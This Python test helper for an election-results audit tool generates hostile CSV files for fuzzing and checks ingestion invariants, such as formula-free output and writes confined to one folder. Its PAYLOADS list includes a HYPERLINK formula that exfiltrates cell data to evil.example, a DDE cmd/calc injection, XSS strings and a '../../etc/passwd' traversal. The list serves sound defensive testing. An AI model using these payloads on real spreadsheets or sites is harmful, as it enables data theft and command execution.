"""Hostile inputs and the invariants they must not break (issue 13; see docs/security.md).

Used by the property tests in ``tests/fuzz``, the regression corpus ``tests/data/hostile``
and the atheris target ``tests/fuzz/atheris_readers.py``. Import as ``from hostile import
...`` (``tests/`` is on the test path).

Invariants of one ingestion of an untrusted file:

* it ends in one clear :class:`~audit.errors.AuditError` (one line, bounded length) or in an
  :class:`~audit.ingest.IngestResult` whose accounting identity holds
  (``rows_read == accepted + quarantined + duplicates_collapsed``);
* every accepted row is a whole, non-negative, plausible count whose candidates add up to
  the valid votes (and valid + null to the ballots, where stated);
* every quarantine reason is a documented rule with a message of bounded length;
* the outputs are written only inside the output folder, the input is unchanged, and no
  CSV cell starts with a formula character unless it is a number.
"""

from __future__ import annotations

import hashlib
import io
import os
from collections.abc import Callable
from pathlib import Path

import pandas as pd
from hypothesis import strategies as st

from audit.errors import AuditError
from audit.inert import FORMULA_START
from audit.ingest import RULES, IngestResult, read_sheets
from audit.ingest.numbers import PLAUSIBLE_MAX

FIXTURES = Path(__file__).resolve().parent / "data"
HOSTILE = FIXTURES / "hostile"
#: The two-candidate layout every generated file uses (no election: any region code).
MAPPING_TEXT = (FIXTURES / "mini_profile.toml").read_text(encoding="utf-8") \
    .replace('election = "mini_election.toml"', "") \
    .replace('code = "region"', 'code = "region"\nname = "name"')
COLUMNS = ("region", "name", "station", "registered", "voters", "valid", "null", "A", "B")
#: Bound on any message (a quarantine reason, an error line).
MAX_MESSAGE = 1000

PAYLOADS = (
    '=HYPERLINK("https://evil.example/?d="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3+cmd",
    "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "<script>alert(1)</script>",
    "[x](javascript:alert(1))", "<img src=x onerror=alert(2)>", "$\\frac{$", "$x^2$",
    "../../etc/passwd", "%s%n%x", "\u202egnp.exe", "Mérida", "Zürich", "ÑUÑOA", "",
)
NUMBERS = ("0", "1", "30", "18", "48", "50", "100", "-3", "+4", " 12 ", "1.234", "1,234",
           "2.000", "1,000", "12.5", "12.0", "12,00", "1 234", "1\u00a0234", "1'234", "5 5",
           "12 34", "1'2'3", "1\t234", "3O", "N/A", "-", "9007199254740993",
           "99999999999999999999999", "18446744073709551615", "1e3", "0x10", "١٢٣")


def _cell(draw: st.DrawFn) -> str:
    kind = draw(st.integers(0, 9))
    if kind <= 3:
        return draw(st.sampled_from(NUMBERS))
    if kind <= 5:
        return str(draw(st.integers(0, 1000)))
    if kind == 6:
        return draw(st.sampled_from(PAYLOADS))
    return draw(st.text(st.characters(codec="utf-8", exclude_categories=("Cs",)),
                        max_size=12))


def _quote(cell: str, delimiter: str, draw: st.DrawFn) -> str:
    needs = any(c in cell for c in (delimiter, '"', "\n", "\r"))
    if needs and draw(st.integers(0, 4)):  # mostly quoted properly; sometimes broken
        return '"' + cell.replace('"', '""') + '"'
    return cell


@st.composite
def hostile_csv(draw: st.DrawFn) -> bytes:
    """A CSV file of the two-candidate layout with hostile content: any delimiter and
    encoding, number formats of both conventions, formula and markup payloads, ragged rows,
    trailing delimiters, blank and subtotal lines, duplicates, case-variant headers."""
    delimiter = draw(st.sampled_from([",", ";", "\t", "|"]))
    header = list(COLUMNS)
    for _ in range(draw(st.integers(0, 2))):
        header.insert(draw(st.integers(0, len(header))),
                      draw(st.sampled_from(["a", "VALID", "Null", "extra", "URL", "x" * 300])))
    header = list(dict.fromkeys(header))
    if draw(st.booleans()):
        header = draw(st.permutations(header))
    good = {"region": "N", "registered": "100", "voters": "50", "valid": "48", "null": "2",
            "A": "30", "B": "18"}
    lines = [delimiter.join(header)]
    for i in range(draw(st.integers(0, 25))):
        shape = draw(st.integers(0, 9))
        if shape == 0:
            lines.append("")
            continue
        row = {c: good.get(c, "") for c in header}
        row["station"] = str(draw(st.integers(1, 12)) if draw(st.booleans()) else i + 1)
        row["name"] = draw(st.sampled_from(PAYLOADS))
        for _ in range(draw(st.integers(0, 3))):
            row[draw(st.sampled_from(header))] = _cell(draw)
        cells = [_quote(row[c], delimiter, draw) for c in header]
        if shape == 1:
            cells.append("")  # trailing delimiter
        elif shape == 2:
            cells += [_cell(draw)] * draw(st.integers(1, 3))  # too many fields
        elif shape == 3:
            cells = cells[:draw(st.integers(0, len(cells)))]  # too few
        lines.append(delimiter.join(cells))
    text = draw(st.sampled_from(["\n", "\r\n"])).join(lines) + draw(st.sampled_from(["", "\n"]))
    encoding = draw(st.sampled_from(["utf-8", "utf-8-sig", "cp1252", "utf-16", "mixed"]))
    if encoding == "mixed":
        return b"\n".join(line.encode("cp1252", "replace") if i % 3 == 2 else line.encode()
                          for i, line in enumerate(text.split("\n")))
    return text.encode(encoding, "replace")


def _snapshot(root: Path) -> dict[str, str]:
    return {str(p.relative_to(root)): hashlib.sha256(p.read_bytes()).hexdigest()
            for p in sorted(root.rglob("*")) if p.is_file()}


def check_message(text: str) -> None:
    assert "\n" not in text.strip(), text[:200]
    assert len(text) <= MAX_MESSAGE + 200, text[:200]
    assert "Traceback" not in text


def check_ingest_file(path: Path, work: Path, *, mapping: Path | None = None,
                      write: Callable[[IngestResult, Path], list[Path]] | None = None
                      ) -> IngestResult | None:
    """Ingest ``path`` and assert every invariant (module docstring); return the result, or
    None when the file was refused with one clear error."""
    if mapping is None:
        mapping = work / "mapping.toml"
        mapping.write_text(MAPPING_TEXT, encoding="utf-8")
    before = _snapshot(work)
    try:
        result = read_sheets(path, profile=mapping)
    except AuditError as exc:
        check_message(str(exc))
        assert _snapshot(work) == before
        return None
    assert result.accepted + result.quarantined + result.duplicates_collapsed \
        == result.rows_read
    assert set(result.quarantine["rule"]) <= set(RULES)
    for message in result.quarantine["message"]:
        check_message(str(message))
    for note in result.notes:
        check_message(note)
    data = result.sheets.data
    for col in ("valid", *(c for c in data.columns if c.startswith("votes_"))):
        values = data[col].to_numpy()
        assert values.dtype.kind == "i", col
        assert ((values >= 0) & (values <= PLAUSIBLE_MAX)).all(), col
    votes = sum(data[c].astype("int64") for c in data.columns if c.startswith("votes_"))
    assert (votes == data["valid"]).all()
    if write is not None:
        out = work / "out"
        written = write(result, out)
        after = _snapshot(work)
        changed = {k for k in after if before.get(k) != after[k]}
        assert changed <= {str(p.relative_to(work)) for p in written}, changed
        assert all(Path(work / k).resolve().is_relative_to(out.resolve()) for k in changed)
        for p in written:
            if p.suffix == ".csv":
                check_inert_csv(p)
    return result


def check_inert_csv(path: Path) -> None:
    """No cell of the CSV starts with a formula character unless it is a number."""
    text = path.read_text(encoding="utf-8")
    body = "\n".join(line for line in text.split("\n") if not line.startswith("# "))
    frame = pd.read_csv(io.StringIO(body), dtype=str, keep_default_na=False)
    for value in frame.to_numpy().ravel():
        if value.startswith(FORMULA_START):
            try:
                float(value)
            except ValueError:
                raise AssertionError(f"{path.name}: formula-leading cell {value[:40]!r}") \
                    from None
    for name in frame.columns:
        assert not str(name).startswith(("=", "+", "@")), name


def corpus_files(kind: str) -> list[Path]:
    """Regression files of ``tests/data/hostile/<kind>`` (sorted, README excluded)."""
    folder = HOSTILE / kind
    return sorted(p for p in folder.iterdir() if p.name != "README.md") \
        if folder.is_dir() else []


def environ_int(name: str, default: int) -> int:
    return int(os.environ.get(name, default))
